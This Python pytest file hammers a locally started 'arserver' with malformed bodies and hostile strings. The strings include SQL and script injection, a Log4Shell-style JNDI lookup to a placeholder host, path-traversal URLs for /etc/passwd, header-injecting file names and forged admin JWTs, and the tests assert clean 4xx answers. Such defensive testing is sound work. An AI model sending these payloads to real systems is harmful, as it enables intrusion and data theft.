"""A hostile corpus against a real ``arserver serve``: malformed, mislabelled, deeply nested and
oversized bodies, SQL and script strings in every text field, path-traversal names, invalid
tokens of many shapes. Every answer is a clean 4xx (or, for text, the text stored verbatim),
never a 5xx; afterwards the server still answers and its log holds no traceback."""

from __future__ import annotations

import json
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import httpx
import pytest

from arserver.config import Settings
from tests.arserver.processes import ServerProcess
from tests.arserver.support import tokens_for

SAMPLE = Path(__file__).parents[3] / "assets" / "lamp_post.glb"
JSON_WRITES = [
    ("POST", "/api/v1/sensors"),
    ("POST", "/api/v1/observations"),
    ("POST", "/api/v1/rules"),
    ("POST", "/api/v1/tokens"),
    ("PATCH", "/api/v1/assets/a1"),
    ("POST", "/api/v1/alerts/1/acknowledge"),
    ("POST", "/api/v1/inspections"),
    ("PATCH", "/api/v1/inspections/i1"),
    ("POST", "/api/v1/comments"),
    ("POST", "/api/v1/comments/c1/hide"),
    ("POST", "/api/v1/comments/c1/response"),
    ("POST", "/api/v1/rounds"),
    ("PATCH", "/api/v1/rounds/r1"),
]
#: (what, body, content type)
BODIES: list[tuple[str, bytes, str]] = [
    ("deeply nested lists", b"[" * 100_000 + b"]" * 100_000, "application/json"),
    ("deeply nested objects", b'{"a":' * 20_000 + b"1" + b"}" * 20_000, "application/json"),
    ("a form labelled JSON", b"name=x&kind=no2", "application/json"),
    ("JSON labelled text", b'{"id": "x"}', "text/plain"),
    ("XML", b"<?xml version='1.0'?><sensor id='x'/>", "application/xml"),
    (
        "multipart labelled JSON",
        b"--b\r\nContent-Disposition: form-data\r\n\r\n",
        "application/json",
    ),
    ("empty", b"", "application/json"),
    ("invalid UTF-8", b'{"name": "\xff\xfe"}', "application/json"),
    ("a byte order mark", b'\xef\xbb\xbf{"name": "x"}', "application/json"),
    ("a number beyond float", b"1e999999", "application/json"),
    (
        "NaN and Infinity",
        b'{"threshold": NaN, "reset": Infinity, "value": -Infinity}',
        "application/json",
    ),
    ("an integer of 5000 digits", b"9" * 5000, "application/json"),
    ("a value nested in a number field", b'{"threshold": {"$gt": 0}}', "application/json"),
    ("a top-level string", b'"\\ud800"', "application/json"),
    ("a top-level null", b"null", "application/json"),
    ("duplicate keys", b'{"role": "admin", "role": "nobody"}', "application/json"),
    ("a NUL byte", b'{"name": "a\x00b"}', "application/json"),
    ("over the body limit", b'{"name": "' + b"x" * 300_000 + b'"}', "application/json"),
]
#: Strings that must be stored and given back verbatim, never interpreted.
TEXTS = [
    "'; DROP TABLE sensors; --",
    '" OR "1"="1',
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "${jndi:ldap://198.51.100.1/a}",
    "{{7*7}} %s%s%n",
    "\u202eevil\u202c",
    "🏗️ Straße ÿ",
    "../../etc/passwd",
]
#: Authorization headers no server issued, as raw bytes.
BAD_AUTHORIZATIONS = [
    b"",
    b"Bearer",
    b"Basic YWRtaW46YWRtaW4=",
    b"Token ars_abc",
    b"Bearer ars_",
    b"Bearer ars_' OR 1=1 --",
    b"Bearer ars_\xe9\xe9\xe9",
    b"Bearer " + b"a" * 6000,
    b"Bearer eyJhbGciOiJub25lIiwidHlwIjoiSldUIn0.eyJzdWIiOiJhZG1pbiJ9.",
    b"Bearer eyJhbGciOiJIUzI1NiJ9.eyJyb2xlIjoiYWRtaW4ifQ.c2lnbmF0dXJl",
    b"Bearer a.b.c.d.e",
    b"Bearer ....",
    b"Bearer %00",
]
#: Upload file names that try to leave the upload folder or confuse the server.
HOSTILE_NAMES = [
    "../../../../tmp/arserver-escaped.glb",
    "..\\..\\..\\windows\\win.ini.glb",
    "/etc/arserver-escaped.glb",
    "CON.glb",
    "a" * 5000 + ".glb",
    "\u202egnp.glb",
    "x\r\nX-Injected: 1.glb",
]
TRAVERSALS = [
    "/tiles/a1/../../../../etc/passwd",
    "/tiles/a1/..%2f..%2f..%2fetc%2fpasswd",
    "/tiles/a1/%2e%2e/%2e%2e/etc/passwd",
    "/tiles/a1/%252e%252e%252fetc%252fpasswd",
    "/tiles/a1/..%5c..%5cwindows%5cwin.ini",
    "/tiles/a1/%00",
    "/tiles/%2e%2e/tileset.json",
    "/tiles/scene/..%2f..%2f/tileset.json",
    "/api/v1/assets/..%2f..%2fetc%2fpasswd",
    "/api/v1/sensors/%2e%2e%2f%2e%2e",
]


@pytest.fixture(scope="module")
def served(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[ServerProcess, str]]:
    """A real ``arserver serve`` and the secret of an admin token."""
    folder = Path(tmp_path_factory.mktemp("hostile"))
    settings = Settings(data_dir=folder / "data")
    (admin,) = tokens_for(settings, "admin")
    server = ServerProcess({"ARSERVER_DATA_DIR": str(settings.data_dir)}, folder / "serve.log")
    server.start()
    try:
        yield server, admin
    finally:
        server.stop()


@pytest.fixture(scope="module")
def http(served: tuple[ServerProcess, str]) -> Iterator[httpx.Client]:
    server, admin = served
    with httpx.Client(
        base_url=server.url, headers={"Authorization": f"Bearer {admin}"}, timeout=30
    ) as client:
        yield client


def still_serving(served: tuple[ServerProcess, str], http: httpx.Client) -> None:
    """The server answers, and its log shows no unhandled error."""
    server, _ = served
    assert http.get("/healthz").status_code == 200
    log = server.log.read_text(encoding="utf-8", errors="replace")
    assert "Traceback" not in log, log[-3000:]


@pytest.mark.parametrize(("method", "path"), JSON_WRITES)
def test_malformed_bodies_get_a_clean_4xx_on_every_json_route(
    served: tuple[ServerProcess, str], http: httpx.Client, method: str, path: str
) -> None:
    answers: dict[str, int] = {}
    for what, body, content_type in BODIES:
        reply = http.request(method, path, content=body, headers={"Content-Type": content_type})
        answers[what] = reply.status_code
        assert reply.headers["content-type"].startswith("application/json"), what
        assert len(reply.content) < 10_000, f"{what}: the answer echoes the input"
    assert all(400 <= status < 500 for status in answers.values()), answers
    still_serving(served, http)


def test_sql_and_script_strings_are_stored_verbatim_in_every_text_field(
    served: tuple[ServerProcess, str], http: httpx.Client
) -> None:
    for n, text in enumerate(TEXTS):
        sensor = {
            "id": f"hostile-{n}", "name": text, "owner": text, "purpose": text,
            "kind": "no2", "unit": "ug/m3", "location": [4.9, 52.37],
        }  # fmt: skip
        assert http.post("/api/v1/sensors", json=sensor).status_code == 201, text
        stored = http.get(f"/api/v1/sensors/hostile-{n}").json()
        assert (stored["name"], stored["owner"], stored["purpose"]) == (text, text, text)
        rule = {"name": text, "kind": "no2", "threshold": 40, "reset": 35}
        reply = http.post("/api/v1/rules", json=rule)
        assert reply.status_code == 201, reply.text
        assert reply.json()["name"] == text
        reply = http.post("/api/v1/tokens", json={"role": "viewer", "name": text})
        assert reply.status_code == 201, reply.text
        assert reply.json()["name"] == text
    assert len(http.get("/api/v1/rules").json()["rules"]) >= len(TEXTS)
    still_serving(served, http)


def test_hostile_strings_are_kept_verbatim_in_field_work_and_participation(
    served: tuple[ServerProcess, str], http: httpx.Client
) -> None:
    now = datetime.now(UTC)
    ring = [[4.89, 52.36], [4.91, 52.36], [4.91, 52.38], [4.89, 52.36]]
    for text in TEXTS:
        found = {"location": [4.9, 52.37, 43.0], "category": "damage", "description": text}
        reply = http.post("/api/v1/inspections", json=found)
        assert reply.status_code == 201, reply.text
        changed = http.patch(
            f"/api/v1/inspections/{reply.json()['id']}", json={"note": text, "assignee": text}
        )
        assert changed.status_code == 200, changed.text
        detail = http.get(f"/api/v1/inspections/{reply.json()['id']}").json()
        assert (detail["description"], detail["assignee"]) == (text, text)
        assert text in [entry["note"] for entry in detail["history"]]
        round_ = {
            "title": text, "description": text, "privacy_notice": text, "mode": "staff",
            "area": {"type": "Polygon", "coordinates": [ring]}, "assets": [],
            "starts_at": (now - timedelta(hours=1)).isoformat(),
            "ends_at": (now + timedelta(days=1)).isoformat(),
        }  # fmt: skip
        made = http.post("/api/v1/rounds", json=round_)
        assert made.status_code == 201, made.text
        assert made.json()["title"] == text
        said = {"round": made.json()["id"], "location": [4.9, 52.37], "text": text}
        comment = http.post("/api/v1/comments", json=said)
        assert comment.status_code == 201, comment.text
        assert http.get(f"/api/v1/comments/{comment.json()['id']}").json()["text"] == text
        report = http.get(f"/api/v1/rounds/{made.json()['id']}/report").json()
        assert [c["text"] for c in report["comments"]] == [text]
    still_serving(served, http)


def test_invalid_tokens_of_every_shape_are_a_401(
    served: tuple[ServerProcess, str], http: httpx.Client
) -> None:
    server, _ = served
    statuses: dict[bytes, list[int]] = {}
    with httpx.Client(base_url=server.url, timeout=30) as anonymous:
        for header in BAD_AUTHORIZATIONS:
            replies = [
                anonymous.get("/api/v1/alerts", headers=[(b"Authorization", header)]),
                anonymous.post("/api/v1/sensors", headers=[(b"Authorization", header)], json={}),
            ]
            statuses[header[:40]] = [reply.status_code for reply in replies]
        both = anonymous.get(
            "/api/v1/alerts",
            headers=[(b"Authorization", b"Bearer ars_x"), (b"Authorization", b"Bearer ars_y")],
        )
        statuses[b"two headers"] = [both.status_code]
        for query in ["access_token=", "access_token=ars_x&access_token=ars_y", "access_token=%ff"]:
            statuses[query.encode()] = [anonymous.get(f"/api/v1/alerts?{query}").status_code]
    assert all(status == 401 for found in statuses.values() for status in found), statuses
    still_serving(served, http)


def test_hostile_upload_names_stay_inside_the_data_folder(
    served: tuple[ServerProcess, str], http: httpx.Client
) -> None:
    server, _ = served
    data = Path(server.env["ARSERVER_DATA_DIR"]).resolve()
    before = {path for path in Path("/tmp").iterdir() if "arserver-escaped" in path.name}
    payload = SAMPLE.read_bytes()
    for name in HOSTILE_NAMES:
        reply = http.post(
            "/api/v1/assets",
            files={"file": (name, payload)},
            data={"name": "hostile", "origin": "4.9,52.37,0"},
        )
        assert reply.status_code in (202, 400, 422), (name[:60], reply.status_code, reply.text)
        if reply.status_code == 202:
            asset = http.get(f"/api/v1/assets/{reply.json()['id']}").json()
            assert "/" not in (asset.get("source_name") or "")
    after = {path for path in Path("/tmp").iterdir() if "arserver-escaped" in path.name}
    assert after == before
    assert not Path("/etc/arserver-escaped.glb").exists()
    written = [path.resolve() for path in data.rglob("*")]
    assert all(path.is_relative_to(data) for path in written)
    still_serving(served, http)


def test_path_traversal_never_leaves_the_tiles(
    served: tuple[ServerProcess, str], http: httpx.Client
) -> None:
    for path in TRAVERSALS:
        reply = http.get(path)
        assert reply.status_code in (400, 404, 422), (path, reply.status_code)
        assert b"root:" not in reply.content, path
        assert b"[fonts]" not in reply.content, path
    still_serving(served, http)


def test_query_values_out_of_any_range_are_a_4xx(
    served: tuple[ServerProcess, str], http: httpx.Client
) -> None:
    queries: list[tuple[str, dict[str, Any]]] = [
        ("/api/v1/assets", {"bbox": "-1e309,0,1e309,1"}),
        ("/api/v1/assets", {"bbox": "nan,nan,nan,nan"}),
        ("/api/v1/assets", {"bbox": ",".join(["1"] * 10_000)}),
        ("/api/v1/observations/latest", {"center": "4.9,52.37", "radius_m": "1e308"}),
        ("/api/v1/observations/latest", {"bbox": "-180,-90,180,90", "kinds": "x" * 10_000}),
        ("/api/v1/sensors/s/observations", {"from": "0000-00-00", "to": "99999-01-01"}),
        ("/api/v1/sensors/s/observations", {"limit": "99999999999999999999999"}),
        ("/api/v1/alerts", {"status": "'; --"}),
    ]
    for path, params in queries:
        reply = http.get(path, params=params)
        assert 400 <= reply.status_code < 500, (path, params, reply.status_code)
        assert len(reply.content) < 10_000, f"{path}: the answer echoes the input"
    still_serving(served, http)


def test_a_corpus_answer_never_names_the_server(
    served: tuple[ServerProcess, str], http: httpx.Client
) -> None:
    server, _ = served
    data = str(Path(server.env["ARSERVER_DATA_DIR"]).resolve())
    replies = [
        http.post("/api/v1/sensors", content=body, headers={"Content-Type": kind})
        for _, body, kind in BODIES
    ]
    replies += [http.get(path) for path in TRAVERSALS]
    for reply in replies:
        text = json.dumps(reply.json())
        for internal in (data, "site-packages", "sqlalchemy", "Traceback"):
            assert internal not in text
